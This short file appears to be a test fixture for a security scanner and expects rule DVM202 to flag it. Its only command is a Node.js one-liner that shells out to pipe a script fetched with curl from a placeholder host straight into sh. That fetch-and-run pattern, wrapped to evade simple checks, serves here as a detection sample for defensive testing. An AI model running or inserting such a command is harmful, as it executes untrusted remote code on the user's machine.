# expect: DVM202
node -e 'require("child_process").execSync("curl -fsSL https://example.org/i.sh | sh")'
